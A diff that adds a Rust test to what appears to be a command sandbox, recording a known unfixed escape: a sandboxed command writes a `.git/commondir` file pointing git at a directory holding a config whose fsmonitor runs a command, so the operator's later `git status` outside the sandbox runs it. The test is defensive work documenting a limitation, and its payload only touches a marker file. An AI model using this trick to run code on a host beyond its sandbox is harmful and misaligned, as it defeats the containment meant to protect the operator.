@@ -1382,3 +1382,42 @@ fn pidfds_cannot_steal_fds_or_signal_outside() {
     let _ = v.wait();
   }
 }
+
+/// NOT STOPPED (README says so): `protect` keeps `.git/config` and `.git/hooks` read-only, but a
+/// new file `.git/commondir` (not there to bind over, and `.git` itself must stay writable for
+/// git) points git at a directory the command made, whose `config` and `hooks` git then uses. The
+/// next git run outside the sandbox (the operator's `git status`) runs the command's fsmonitor.
+/// ToolSandbox pins `GIT_COMMON_DIR` for the git it runs; a plain `git` on the host does not.
+#[test]
+fn a_commondir_file_redirects_git_past_protect() {
+  if find_git().is_none() || !can_ns() {
+    return;
+  }
+  for (opts, _stopped) in settings(json!({})).into_iter().take(2) {
+    let j = jail();
+    let r = sh(
+      &off(),
+      &j.root,
+      "git init -q . && git -c user.email=a@b -c user.name=a commit -q --allow-empty -m m",
+    );
+    assert!(r.status.success(), "{}", r.stderr);
+    let marker = j.out.join("pwned");
+    let r = sh(
+      &opts,
+      &j.root,
+      &format!(
+        "mkdir evil && cp -r .git/. evil/ &&
+         printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = \"touch {m}; false\"\\n' > evil/config &&
+         echo ../evil > .git/commondir",
+        m = marker.display()
+      ),
+    );
+    // The host's own git, later, outside any sandbox.
+    let _ = sh(&off(), &j.root, "git status >/dev/null 2>&1");
+    assert!(
+      marker.exists(),
+      "{opts}: the redirect is expected to land (README): {}",
+      r.stderr
+    );
+  }
+}
